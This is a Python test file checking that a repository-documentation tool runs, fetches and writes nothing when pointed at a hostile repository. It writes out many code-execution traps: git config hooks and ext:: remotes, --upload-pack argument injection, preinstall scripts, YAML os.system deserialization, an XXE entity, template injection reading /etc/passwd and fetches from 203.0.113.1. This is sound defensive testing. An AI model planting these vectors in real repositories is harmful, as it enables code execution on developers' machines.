"""A repository that wants to run something: nothing of it is executed, nothing is fetched, nothing is written elsewhere.

The build runs in a network namespace without routes, and every program it starts, every connection it asks for and every
file it opens to write is recorded by strace."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

from sandboxes import within
from trees import PACKAGE, commit, write

#: What a build may start, by the name of the program.
_PROGRAMS = re.compile(r"python[\d.]*|git|ruff")
_CALLS = "execve,execveat,connect,open,openat,openat2,creat,unlink,unlinkat,rename,renameat,renameat2,mkdir,mkdirat,link,linkat,symlink,symlinkat,truncate,chmod,fchmodat"
#: A name, with the folder it is relative to where the call says one.
_NAME = re.compile(r'(?:(?:AT_FDCWD|\d+)<([^>]*)>, )?"((?:[^"\\]|\\.)*)"')

TRAPS = {
    "setup.py": "open('{evidence}', 'w')\n",
    "conftest.py": "open('{evidence}', 'w')\n",
    "sitecustomize.py": "open('{evidence}', 'w')\n",
    "json.py": "open('{evidence}', 'w')\n",
    "msgspec/__init__.py": "open('{evidence}', 'w')\n",
    "repobook/__init__.py": "open('{evidence}', 'w')\n",
    "package.json": '{{"scripts": {{"preinstall": "touch {evidence}"}}}}\n',
    "pyproject.toml": (
        '[project]\nname = "trap"\nversion = "1"\n[build-system]\nrequires = ["evil @ https://203.0.113.1/e.zip"]\n'
        'build-backend = "setup"\nbackend-path = ["."]\n'
        '[tool.ruff]\nextend = "/proc/self/environ"\n[tool.mypy]\nplugins = ["sitecustomize"]\n'
    ),
    "ruff.toml": 'extend = "{evidence}"\nselect = ["NO-SUCH-RULE"]\n',
    ".flake8": "[flake8:local-plugins]\nextension = X = sitecustomize\npaths = .\n",
    ".pre-commit-config.yaml": "repos:\n- repo: ext::touch {evidence}\n  rev: v1\n  hooks: [{{id: x}}]\n",
    ".envrc": "touch {evidence}\n",
    ".gitattributes": "* filter=evil diff=evil merge=evil text working-tree-encoding=UTF-16\n*.md export-subst\n",
    ".gitmodules": (
        '[submodule "evil"]\n\tpath = module\n\turl = ext::touch {evidence}\n\tupdate = !touch {evidence}\n'
        '[submodule "dash"]\n\tpath = -dash\n\turl = --upload-pack=touch {evidence}\n'
    ),
    "template.html": "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{{% include '/etc/passwd' %}}\n",
    "README.md": "# Trap\n\n![x](https://203.0.113.1/x.png) <script src=//203.0.113.1/x.js></script> `$(touch {evidence})`\n",
    "data.yaml": "!!python/object/apply:os.system ['touch {evidence}']\n",
    "entity.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://203.0.113.1/">]><a>&x;</a>\n',
    "cells.ipynb": '{{"cells": [{{"cell_type": "code", "source": ["!touch {evidence}\\n"]}}]}}',
    "a.cc": '#include "/proc/self/environ"\n#include "a.h"\nint main() {{ return 0; }}\n',
    "CMakeLists.txt": 'execute_process(COMMAND touch "{evidence}")\n',
    "Makefile": "X := $(shell touch {evidence})\nall:\n",
}
CONFIG = """
[core]
    fsmonitor = touch {evidence}; false
    hooksPath = {hooks}
    pager = touch {evidence}
    editor = touch {evidence}
    askPass = {hooks}/ask
    sshCommand = touch {evidence}
    gitProxy = {hooks}/proxy
    alternateRefsCommand = touch {evidence}
    attributesFile = {hooks}/attributes
[credential]
    helper = !touch {evidence}
[includeIf "gitdir:**"]
    path = included
[log]
    showSignature = true
[gpg]
    program = {hooks}/gpg
[diff]
    external = touch {evidence}
[diff "evil"]
    textconv = touch {evidence};
    command = touch {evidence}
[filter "evil"]
    clean = touch {evidence}
    smudge = touch {evidence}
    process = touch {evidence}
    required = true
[interactive]
    diffFilter = touch {evidence}
[uploadpack]
    packObjectsHook = touch {evidence}
[remote "origin"]
    url = ext::touch {evidence}
    promisor = true
    partialclonefilter = blob:none
    vcs = evil
    uploadpack = touch {evidence};
[submodule]
    recurse = true
[submodule "module"]
    update = !touch {evidence}
[alias]
    ls-files = !touch {evidence}
    log = !touch {evidence}
"""


def trapped(root: Path, evidence: Path) -> Path:
    """A repository in which everything that tools may run leaves evidence."""
    write(root, PACKAGE)
    commit(root, "An older commit")
    write(root, {name: text.format(evidence=evidence) for name, text in TRAPS.items() if name != ".gitattributes"})
    commit(root)
    write(root, {".gitattributes": TRAPS[".gitattributes"]})
    hooks = root / ".git" / "hooks"
    names = ("gpg", "ask", "proxy", "git-remote-evil", "post-checkout", "post-index-change", "fsmonitor-watchman")
    write(root / ".git", {f"hooks/{name}": f"#!/bin/sh\ntouch {evidence}\n" for name in names})
    for hook in hooks.iterdir():
        hook.chmod(0o755)
    (root / ".git/included").write_text(f"[core]\n\tfsmonitor = touch {evidence}\n")
    (root / ".git/info/attributes").write_text("* filter=evil diff=evil\n")
    with (root / ".git/config").open("a") as file:
        file.write(CONFIG.format(evidence=evidence, hooks=hooks))
    # An object that is not there: git would fetch it.
    asked = ["git", "-C", str(root), "-c", "core.fsmonitor=false", "rev-parse", "HEAD~1^{tree}"]
    tree = subprocess.run(asked, capture_output=True, text=True, check=True).stdout.strip()
    (root / ".git/objects" / tree[:2] / tree[2:]).unlink()
    (root / "module").mkdir()
    return root


def sandbox(command: list[str], cwd: Path, log: Path, **environment: str) -> list[str]:
    """Runs a command without network under strace; the calls it and its children made."""
    trace = ["strace", "-f", "--seccomp-bpf", "-qq", "-y", "-s", "4096", "-e", f"trace={_CALLS}", "-o", str(log)]
    inside = [*within("-rn", tools=("strace",)), *trace]
    done = subprocess.run(
        [*inside, *command],
        cwd=cwd, env={**os.environ, **environment}, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode in (0, 1), done.stderr
    return log.read_text(encoding="utf-8", errors="replace").splitlines()


def broken_out(calls: list[str], allowed: tuple[Path, ...], root: Path) -> list[str]:
    """The calls that a build must not make: a foreign program, a connection, a change outside of the ``allowed`` folders."""
    wrong = []
    for line in calls:
        match = re.match(r"\d+ +(\w+)\((.*)", line)
        if match is None or " = -1 E" in line:
            # What failed did no harm, unless it was a connection.
            if match is not None and match[1] == "connect":
                wrong.append(line)
            continue
        call, rest = match.groups()
        names = [root / folder / name.encode().decode("unicode_escape") for folder, name in _NAME.findall(rest)]
        if call in ("execve", "execveat"):
            fine = _PROGRAMS.fullmatch(names[0].name) is not None and root not in names[0].parents
        elif call == "connect":
            fine = False
        elif call.startswith("open") and not re.search(r"O_WRONLY|O_RDWR|O_CREAT|O_TRUNC", rest):
            fine = True
        else:
            fine = all(
                name == Path(os.devnull) or any(name.is_relative_to(folder) for folder in allowed) for name in names
            )
        if not fine:
            wrong.append(line)
    return wrong


def test_a_trapped_repository_runs_fetches_and_writes_nothing(tmp_path: Path) -> None:
    evidence = tmp_path / "evidence"
    root = trapped(tmp_path / "repository", evidence)
    out, temporary = tmp_path / "out" / "book", tmp_path / "temporary"
    temporary.mkdir()
    out.parent.mkdir()
    before = {path: path.lstat() for path in sorted(root.rglob("*"))}
    settings = {"TMPDIR": str(temporary), "PYTHONDONTWRITEBYTECODE": "1"}
    repobook = [sys.executable, str(Path(sys.executable).with_name("repobook"))]
    # Run from inside, as people do.
    commands = [["build", ".", "--out", str(out), "--format", "all"], ["check", str(out)]]
    for number, arguments in enumerate(commands):
        calls = sandbox([*repobook, *arguments], root, tmp_path / f"calls{number}", **settings)
        assert any("execve" in line for line in calls)
        assert broken_out(calls, (out.parent, temporary), root) == []
        if arguments[0] == "build":
            started = {match[1] for line in calls if (match := re.search(r'execve\("[^"]*/([^"/]+)".* = 0$', line))}
            assert {"git", "ruff"} <= started, "the record shows what was started"
    assert not evidence.exists()
    assert list(temporary.iterdir()) == []
    assert {path: path.lstat() for path in sorted(root.rglob("*"))}.keys() == before.keys()
    assert all(path.lstat().st_mtime_ns == known.st_mtime_ns for path, known in before.items())


def test_modules_of_the_current_folder_are_not_imported(tmp_path: Path) -> None:
    write(
        tmp_path,
        {name: TRAPS["json.py"].format(evidence="evidence") for name in ("json.py", "msgspec.py", "tomllib.py")},
    )
    write(tmp_path, {"source/a.py": "x = 1\n"})
    command = [sys.executable, "-m", "repobook", "build", "source"]
    assert subprocess.run(command, cwd=tmp_path, capture_output=True, check=False).returncode == 0
    assert not (tmp_path / "evidence").exists()


def test_the_record_shows_what_breaks_out(tmp_path: Path) -> None:
    """The test above can fail: each of these is seen."""
    script = (
        "import os, socket, subprocess\n"
        "subprocess.run(['touch', 'here'])\n"
        "open('there', 'w')\n"
        "s = socket.socket()\n"
        "try: s.connect(('203.0.113.1', 80))\n"
        "except OSError as error: print(error)\n"
    )
    calls = sandbox([sys.executable, "-c", script], tmp_path, tmp_path / "calls", PYTHONDONTWRITEBYTECODE="1")
    wrong = "\n".join(broken_out(calls, (tmp_path / "out",), tmp_path))
    assert "touch" in wrong and '"there"' in wrong and "203.0.113.1" in wrong and "ENETUNREACH" in wrong
